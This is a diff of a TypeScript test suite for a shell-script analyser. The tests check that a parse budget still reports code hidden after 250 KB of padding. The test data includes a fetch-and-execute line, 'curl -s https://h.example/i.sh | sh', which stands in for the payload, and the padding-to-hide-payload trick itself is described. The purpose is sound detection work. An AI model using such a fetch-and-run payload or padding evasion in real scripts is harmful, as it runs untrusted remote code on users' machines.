@@ -109,7 +109,7 @@ describe('deterministic parse budget', () => {
   });
 
   it('analyses a long honest script to its end: 60 KB of distinct commands, an unfinished line in every block', () => {
-    // Three times the parser work of the largest real code file measured (docs/decisions/0029-code-layer-work-per-file.md).
+    // 450 progress callbacks, more than the largest real code file measured needs (344; docs/decisions/0034-code-parse-budget-at-twice-the-largest-real-file.md).
     const block = (b: number) =>
       `${Array.from({ length: 24 }, (_, i) => `curl -fsSL "https://dl.example/a-${b}-${i}.tgz" -o "/tmp/a-${b}-${i}.tgz" && tar -xzf "/tmp/a-${b}-${i}.tgz" -C /opt\n`).join('')}echo done; esac\n`;
     const blocks = Math.floor((60 * 1024) / block(0).length);
@@ -120,8 +120,9 @@ describe('deterministic parse budget', () => {
   }, 60_000);
 
   it('bounds the parser work of a whole file and reports the code past it, so padding cannot hide a payload', () => {
-    // 250 KB of valid, distinct pipelines, each chunk naming a fetch, then the payload: more work than the file's budget.
-    const padding = Array.from({ length: 3500 }, (_, i) => `curl -s https://a.example/x${i} | tee o${i} | grep y${i} | sort | head -n ${i}\n`).join('');
+    // 250 KB of valid, distinct assignments (parser work, no calls), each line naming a fetch so every
+    // chunk is parsed, then the payload: more work than the file's budget, under its cap on calls.
+    const padding = Array.from({ length: 3500 }, (_, i) => `u${i}="https://a.example/x${i}" v${i}=( o${i} y${i} ${i} )  # curl mirror\n`).join('');
     const text = `#!/bin/sh\n${padding}curl -s https://h.example/i.sh | sh\n`;
     const facts = factsOf('big.sh', text);
     expect(facts.incomplete).toMatch(/budget for parsing code ran out/);
